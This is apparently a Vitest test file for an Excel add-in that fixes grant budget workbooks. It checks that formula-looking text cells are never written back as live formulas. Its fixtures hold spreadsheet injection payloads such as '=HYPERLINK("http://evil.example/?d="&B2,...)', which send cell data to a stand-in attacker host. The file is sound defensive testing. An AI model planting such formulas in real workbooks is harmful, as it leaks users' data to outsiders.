import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { RawValue } from '../../src/domain/budget';
import { writesFormula } from '../../src/domain/findings';
import { checkWorkbook } from '../../src/sheet/check';
import { type WorkbookSnapshot, fromA1, snapshotFromRows } from '../../src/sheet/grid';
import type { Plan } from '../../src/sheet/plan';
import { buildReviewSheetPlan } from '../../src/sheet/review-plan';
import { engineServices as paneServices } from '../../src/taskpane/engine';
import { fixPlan, fixRoutes } from '../../src/taskpane/verdict';
import { applyPlan } from '../../src/xlsx/apply';

/**
 * SPEC §7 / issue 25: no value that came from a workbook is ever written as a formula. A 基本資料 text cell such as
 * `=HYPERLINK("http://evil.example/?d="&B2,"52.5%")` states a percentage, so a budget fix (and the maximum) rewrites its
 * number — and must write the result back as text, whatever it starts with (=, +, -, @ all start a formula when typed).
 */
const BUDGET: RawValue[][] = [
  ['經費預算表'],
  [null, null, null, null, '金額單位：千元'],
  ['會計科目', '政府補助款', '業者自籌款', '合計', '各科目補助比例(%)'],
  ['消耗性器材及原材料費', 300, 200, 500, 8.5],
  ['全新設備之購置費', 1200, 1300, 2500, 42.4],
  ['既有設備之改善費', 1200, 0, 1200, 20.3],
  ['委託研究或驗證費', 400, 200, 600, 10.2],
  ['人事費', 600, 200, 800, 13.6],
  ['無形資產引進費', null, 300, 300, 5.1],
  ['合計', 3700, 2200, 5900, null],
];

/** The text cells of 基本資料 hold formula-looking text (a text constant, not a formula: `formulas` is null there). */
function hostileBook(prefix: string): { book: WorkbookSnapshot; payloads: string[] } {
  const payloads = [`${prefix}HYPERLINK("http://evil.example/?d="&B2,"62.7%")`, `${prefix}HYPERLINK("http://evil.example/","37.3%")`];
  const info = snapshotFromRows('基本資料', [['申請總經費', 5900, '千元'], ['補助款 千元(%)', 3700, 'x'], ['自籌款 千元(%)', 2200, 'x']]);
  info.values[1][2] = payloads[0];
  info.values[2][2] = payloads[1];
  info.formulas[1][2] = null;
  info.formulas[2][2] = null;
  return { book: { sheets: [info, snapshotFromRows('經費預算表', BUDGET)], settings: {} }, payloads };
}

/** Every plan the pane can build for this workbook: each route of each finding, the maximum, the review sheet. */
function everyPlan(book: WorkbookSnapshot): Plan[] {
  const result = checkWorkbook(book, { program: 'upgrade-10plus' });
  const plans = result.findings.flatMap((f) => fixRoutes(f).map((r) => fixPlan(r.advice ?? f.message, r.changes)));
  const max = paneServices.maximize(result, result.program);
  if (max && max.changes.length > 0) plans.push(fixPlan('max', max.changes));
  plans.push(buildReviewSheetPlan(book, result).plan);
  return plans;
}

describe('no plan writes workbook text as a formula', () => {
  it.each(['=', '+', '-', '@'])('text cells starting with %s stay text through every plan', async (prefix) => {
    const { book, payloads } = hostileBook(prefix);
    const plans = everyPlan(book);
    const writes = plans.flatMap((p) => p.ops.filter((o) => o.op === 'write'));
    // The fixes do rewrite the hostile cells (their percentages follow the budget) — as text.
    const rewritten = writes.filter((w) => w.sheet === '基本資料' && (w.cell === 'C2' || w.cell === 'C3'));
    expect(rewritten.length).toBeGreaterThan(0);
    for (const w of rewritten) {
      expect(w.content.kind).toBe('text');
      expect((w.content as { text: string }).text.startsWith(prefix)).toBe(true);
    }
    // Every formula any plan writes is one the add-in composed: no workbook text inside it.
    for (const w of writes) {
      if (w.content.kind !== 'formula') continue;
      expect(w.content.formula).not.toMatch(/evil\.example|HYPERLINK\("http/);
    }
    // Written to a file, the cell holds a string, never a formula.
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('基本資料');
    workbook.addWorksheet('經費預算表');
    const fix = plans.find((p) => p.ops.some((o) => o.op === 'write' && o.sheet === '基本資料' && o.cell === 'C3'))!;
    applyPlan(workbook, fix);
    const value = workbook.getWorksheet('基本資料')!.getCell('C3').value;
    expect(typeof value).toBe('string');
    expect(value).not.toBe(payloads[1]);
  });

  it('a change is a formula only when the add-in composed it', () => {
    const { book } = hostileBook('=');
    const result = checkWorkbook(book, { program: 'upgrade-10plus' });
    const changes = result.findings.flatMap((f) => fixRoutes(f).flatMap((r) => r.changes));
    for (const c of changes.filter(writesFormula)) {
      // Composed from references into the budget table: SUM of ranges, a sum of two cells, or a share.
      expect(c.to).toMatch(/^=[A-Z0-9$:,+*/()SUMROUND.\s-]+$/);
      expect(fromA1(c.cell)).toBeDefined();
    }
  });
});
